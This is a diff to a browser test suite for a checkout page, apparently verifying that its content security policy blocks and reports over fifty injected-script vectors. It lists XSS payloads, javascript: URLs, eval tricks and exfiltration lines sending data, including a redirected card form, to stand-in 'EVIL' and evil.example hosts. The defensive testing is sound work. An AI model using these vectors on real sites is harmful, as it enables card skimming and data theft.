@@ -61,6 +61,104 @@ const urls: readonly string[] = [
   `blob:https://x.example/1`,
 ];
 
+const element = (tag: string, set: string, into = 'document.body') =>
+  `const e=document.createElement('${tag}');${set};${into}.append(e)`;
+const svg = (tag: string, set: string) =>
+  `const e=document.createElementNS('http://www.w3.org/2000/svg','${tag}');${set};document.body.append(e)`;
+const throughFrame = (src: string) => element('iframe', `e.src=${src}`);
+
+/** What a script would do that a stranger got into the page. */
+const vectors: readonly (readonly [name: string, how: string])[] = [
+  // More scripts.
+  ['an inline script', element('script', `e.append('${run}')`)],
+  ['a script by its text', element('script', `e.text='${run}'`)],
+  ['a script of elsewhere', element('script', `e.src='https://EVIL/x.js'`)],
+  ['a module', element('script', `e.type='module';e.append('${run}')`)],
+  ['a module of elsewhere', element('script', `e.type='module';e.src='https://EVIL/x.js'`)],
+  ['a script out of data', element('script', `e.src='data:text/javascript,${run}'`)],
+  ['a script out of a blob', element('script', `e.src=URL.createObjectURL(new Blob(['${run}']))`)],
+  [
+    'a script with a nonce that is guessed',
+    element('script', `e.nonce='guess';e.append('${run}')`),
+  ],
+  ['a script in a drawing', svg('script', `e.append('${run}')`)],
+  ['an import', `import('https://EVIL/x.js').catch(()=>{})`],
+  ['an import of data', `import('data:text/javascript,${run}').catch(()=>{})`],
+  ['a map of imports', element('script', `e.type='importmap';e.append('{"imports":{}}')`)],
+  [
+    'preloading',
+    element('link', `e.rel='modulepreload';e.href='https://EVIL/x.js'`, 'document.head'),
+  ],
+  // Handlers.
+  ['a click', `document.body.setAttribute('onclick','${run}');document.body.click()`],
+  ['an error', element('img', `e.setAttribute('onerror','${run}');e.src='x:'`)],
+  ['a focus', element('input', `e.setAttribute('onfocus','${run}');e.autofocus=true`)],
+  ['a toggle', element('details', `e.setAttribute('ontoggle','${run}');e.open=true`)],
+  ['a load of a drawing', svg('svg', `e.setAttribute('onload','${run}')`)],
+  ['the beginning of an animation', svg('animate', `e.setAttribute('onbegin','${run}')`)],
+  ['a pointer', `document.body.setAttribute('onpointerrawupdate','${run}')`],
+  // Addresses that run.
+  ['a link', `${element('a', `e.href='javascript:${run}'`)};e.click()`],
+  ['an address', `location.href='javascript:${run}'`],
+  ['a frame', throughFrame(`'javascript:parent.ran=1'`)],
+  ['a form', `${element('form', `e.action='javascript:${run}'`)};e.submit()`],
+  // Text that becomes markup or code.
+  ['markup inside', `document.body.innerHTML='<img src=x onerror=${run}>'`],
+  ['markup in its place', `document.querySelector('#say').outerHTML='<img src=x onerror=${run}>'`],
+  ['markup beside', `document.body.insertAdjacentHTML('beforeend','<img src=x onerror=${run}>')`],
+  ['markup that is written', `document.write('<img src=x onerror=${run}>')`],
+  ['markup that is parsed', `new DOMParser().parseFromString('<p>','text/html')`],
+  ['markup of a range', `new Range().createContextualFragment('<img src=x onerror=${run}>')`],
+  ['markup that is called unsafe', `document.body.setHTMLUnsafe('<img src=x onerror=${run}>')`],
+  [
+    'markup in a shadow',
+    `const e=document.createElement('div');e.attachShadow({mode:'open'}).innerHTML='<b>'`,
+  ],
+  ['the document of a frame', element('iframe', `e.srcdoc='<script>parent.ran=1</'+'script>'`)],
+  ['eval', `eval('${run}')`],
+  ['a function of text', `new Function('${run}')()`],
+  ['a timer', `setTimeout('${run}',0)`],
+  ['another timer', `setInterval('${run}',5)`],
+  ['a policy for trusted types', `trustedTypes.createPolicy('default',{createHTML:(x)=>x})`],
+  ['a worker', `new Worker('data:text/javascript,${run}')`],
+  ['a shared worker', `new SharedWorker('/checkout/x.js')`],
+  ['a service worker', `navigator.serviceWorker.register('/checkout/x.js').catch(()=>{})`],
+  // What is loaded, and what would carry something away.
+  ['an image', `new Image().src='https://EVIL/?'+document.title`],
+  ['a request', `fetch('https://EVIL/').catch(()=>{})`],
+  ['an older request', `const r=new XMLHttpRequest();r.open('GET','https://EVIL/');r.send()`],
+  ['a beacon', `navigator.sendBeacon('https://EVIL/','x')`],
+  ['a socket', `new WebSocket('wss://EVIL/')`],
+  ['a stream of events', `new EventSource('https://EVIL/')`],
+  ['a frame of elsewhere', throughFrame(`'https://EVIL/'`)],
+  ['a frame of data', throughFrame(`'data:text/html,<script>parent.ran=1</'+'script>'`)],
+  ['a frame of a blob', throughFrame(`URL.createObjectURL(new Blob(['x'],{type:'text/html'}))`)],
+  ['an object', element('object', `e.data='https://EVIL/'`)],
+  ['something embedded', element('embed', `e.src='https://EVIL/'`)],
+  ['a film', element('video', `e.src='https://EVIL/x.mp4'`)],
+  [
+    'a style of elsewhere',
+    element('link', `e.rel='stylesheet';e.href='https://EVIL/x.css'`, 'document.head'),
+  ],
+  ['a style', element('style', `e.append('#number{color:red}')`, 'document.head')],
+  ['a style at an element', `document.body.setAttribute('style','color:red')`],
+  [
+    'a style that asks what was typed',
+    `document.body.style.backgroundImage='url(https://EVIL/?4)'`,
+  ],
+  [
+    'a sheet that asks what was typed',
+    `const s=new CSSStyleSheet();s.replaceSync('html{background:url(https://EVIL/?5)}');document.adoptedStyleSheets=[s]`,
+  ],
+  ['a font', `const f=new FontFace('x','url(https://EVIL/x.woff2)');f.load().catch(()=>{})`],
+  ['where a form is sent', `${element('form', `e.action='https://EVIL/'`)};e.submit()`],
+  [
+    'the form of the card',
+    `const f=document.querySelector('#pay');f.action='https://EVIL/';f.submit()`,
+  ],
+  ['a base', element('base', `e.href='https://EVIL/'`, 'document.head')],
+];
+
 describe('the page of a checkout', { skip: await chromiumIsMissing() }, async () => {
   const server = await startPageServer();
   const browser = await launchChromium();
@@ -119,51 +217,43 @@ describe('the page of a checkout', { skip: await chromiumIsMissing() }, async ()
     );
   });
 
-  test('blocks what gets into the page in spite of it, and hears of each', async () => {
-    const wanted: readonly (readonly [name: string, how: string])[] = [
-      [
-        'an element',
-        `const s=document.createElement('script');s.text='${run}';document.head.append(s)`,
-      ],
-      [
-        'a source',
-        `const s=document.createElement('script');s.src='https://evil.example/x.js';document.head.append(s)`,
-      ],
-      ['a handler', `document.body.setAttribute('onclick','${run}');document.body.click()`],
-      ['markup', `document.body.innerHTML='<img src=x onerror=${run}>'`],
-      ['eval', `eval('${run}')`],
-      ['a function', `new Function('${run}')()`],
-      ['a timer', `setTimeout('${run}',0)`],
-      [
-        'a frame',
-        `const f=document.createElement('iframe');f.src='https://evil.example/';document.body.append(f)`,
-      ],
-      ['an image', `new Image().src='https://evil.example/?'+document.title`],
-      ['a request', `fetch('https://evil.example/').catch(()=>{})`],
-      ['a beacon', `navigator.sendBeacon('https://evil.example/','x')`],
-      [
-        'a form',
-        `const f=document.createElement('form');f.action='https://evil.example/';document.body.append(f);f.submit()`,
-      ],
-      [
-        'a base',
-        `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`,
-      ],
-    ];
-    for (const [name, how] of wanted) {
-      await page.goto(server.open().url);
-      const before = server.reports.length;
+  test(`blocks ${vectors.length} things that got into the page in spite of it, and hears of each`, async () => {
+    assert.ok(vectors.length >= 50);
+    const { url } = server.open();
+    await page.goto(url);
+    // One thing may be reported twice: what comes late is not taken for the next.
+    const reportsOnceQuiet = async (): Promise<number> => {
+      let count = -1;
+      while (count !== server.reports.length) {
+        count = server.reports.length;
+        await page.waitForTimeout(30);
+      }
+      return count;
+    };
+    const isReported = async (at: number, how: string, patience: number): Promise<boolean> => {
+      const before = await reportsOnceQuiet();
       // Later, because what a debugger evaluates may do more than a page.
-      await page.evaluate(`setTimeout(() => { ${how} }, 0)`);
-      for (let wait = 0; wait < 200 && server.reports.length === before; wait += 1)
-        await page.waitForTimeout(50);
-      assert.ok(server.reports.length > before, `${name} was reported`);
+      await page.evaluate(
+        `setTimeout(() => { ${how.replaceAll('EVIL', `e${at}.evil.example`)} }, 0)\n//# sourceURL=vector-${at}.js`,
+      );
+      for (let wait = 0; wait < patience && server.reports.length === before; wait += 1) {
+        await page.waitForTimeout(10);
+      }
+      return server.reports.length > before;
+    };
+    for (const [at, [name, how]] of vectors.entries()) {
+      if (!(await isReported(at, how, 30))) {
+        // A browser tells the same of one page only once, and one thing may look like another.
+        await page.goto(url);
+        assert.ok(await isReported(at, how, 1_000), `${name} was reported`);
+      }
       assert.equal(await hasRun(), false, name);
     }
     assert.deepEqual(
       answered.filter((url) => url.includes('evil')),
       [],
     );
+    assert.ok(new Set(server.reports).size >= 10, [...new Set(server.reports)].join(', '));
   });
 
   test('charges what the server knows, whatever a browser makes of the form', async () => {
